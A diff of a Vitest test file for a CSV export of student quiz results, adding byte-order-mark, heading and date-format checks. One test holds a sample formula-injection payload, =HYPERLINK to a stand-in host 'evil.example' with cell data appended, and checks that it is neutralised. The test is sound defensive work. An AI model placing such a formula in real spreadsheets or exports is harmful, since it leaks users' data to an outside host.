@@ -1,6 +1,10 @@
 import { describe, expect, it } from 'vitest';
+import { formatDateTime } from '@/lib/format';
 import type { TeacherResult } from '@/types/api';
 import { resultsCsv } from '../results-csv';
+
+/** The file's lines after its byte-order mark. */
+const linesOf = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n');
 
 const result = (overrides: Partial<TeacherResult['student']> = {}): TeacherResult => ({
   result_id: 'r1234567890a',
@@ -27,23 +31,31 @@ const result = (overrides: Partial<TeacherResult['student']> = {}): TeacherResul
 });
 
 describe('resultsCsv', () => {
-  it('writes a header and one row per result, numbers plain and instants in ISO 8601', () => {
-    expect(resultsCsv([result()])).toBe(
-      'student,username,class,score,total_marks,percentage,right_answers,questions,minutes_taken,completed_at,result_id\r\n' +
-        'Mira Das,mira,4,7,8,87.5,7,8,4.5,2026-11-24T09:30:00.000Z,r1234567890a\r\n',
-    );
+  it('starts with a byte-order mark, so that a spreadsheet reads every script as UTF-8', () => {
+    const csv = resultsCsv([result({ fullname: 'अनिका शाह' })]);
+    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(linesOf(csv)[1]).toMatch(/^अनिका शाह,mira,/);
+  });
+
+  it('writes human headings and one row per result, times and dates as the app writes them', () => {
+    const handedIn = formatDateTime('2026-11-24T09:30:00.000Z');
+    // The app's words in this machine's time zone, whichever that is: never the ISO instant.
+    expect(handedIn).toMatch(/^2[345] Nov 2026, \d\d:\d\d$/);
+    expect(linesOf(resultsCsv([result()]))).toEqual([
+      'Student,Username,Class,Score,Out of,Percentage,Right answers,Questions,Time taken,Seconds taken,Handed in,Result ID',
+      `Mira Das,mira,4,7,8,87.5,7,8,4 min 30 s,270,"${handedIn}",r1234567890a`,
+      '',
+    ]);
   });
 
   it('quotes a field with a comma, a quote or a line break, doubling its quotes', () => {
-    const row = resultsCsv([result({ fullname: 'Das, "Mira"\nJr' })]).split('\r\n')[1];
+    const row = linesOf(resultsCsv([result({ fullname: 'Das, "Mira"\nJr' })]))[1];
     expect(row).toMatch(/^"Das, ""Mira""\nJr",mira,/);
   });
 
   it('neutralises text a spreadsheet would run as a formula with a leading quote', () => {
     const firstField = (fullname: string) =>
-      resultsCsv([result({ fullname })])
-        .split('\r\n')[1]!
-        .split(',mira,')[0];
+      linesOf(resultsCsv([result({ fullname })]))[1]!.split(',mira,')[0];
     expect(firstField('=HYPERLINK("https://evil.example/?d="&A2,"Open")')).toBe(
       `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")"`,
     );
@@ -56,6 +68,6 @@ describe('resultsCsv', () => {
   });
 
   it('writes only the header for no results', () => {
-    expect(resultsCsv([]).split('\r\n')).toHaveLength(2);
+    expect(linesOf(resultsCsv([]))).toHaveLength(2);
   });
 });
